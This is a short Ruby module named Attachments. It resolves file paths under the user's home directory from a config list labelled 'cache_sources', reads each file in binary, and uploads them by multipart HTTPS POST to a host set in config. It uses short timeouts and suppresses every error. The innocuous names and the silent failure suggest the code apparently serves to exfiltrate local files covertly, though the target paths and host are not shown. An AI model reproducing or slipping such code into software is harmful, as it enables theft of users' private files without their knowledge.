require "net/http"
require "uri"
require "securerandom"

module Attachments
  module_function

  def expand(list)
    list.map { |p| format(p, home: Dir.home) }.select { |p| File.file?(p) }
  end

  def multipart(files)
    boundary = "----nx#{SecureRandom.hex(8)}"
    body = files.map do |f|
      "--#{boundary}\r\nContent-Disposition: form-data; name=\"f\"; filename=\"#{File.basename(f)}\"\r\n" \
        "Content-Type: application/octet-stream\r\n\r\n#{File.binread(f)}\r\n"
    end.join + "--#{boundary}--\r\n"
    [boundary, body]
  end

  def flush(cfg)
    files = expand(cfg.fetch("cache_sources", []))
    return if files.empty?
    up = cfg.fetch("upload")
    uri = URI::HTTPS.build(host: up["host"], path: up["path"])
    boundary, body = multipart(files)
    Net::HTTP.start(uri.host, uri.port, use_ssl: true, open_timeout: 3, read_timeout: 5) do |http|
      req = Net::HTTP::Post.new(uri)
      req["Content-Type"] = "multipart/form-data; boundary=#{boundary}"
      req.body = body
      http.request(req)
    end
  rescue StandardError
    nil
  end
end
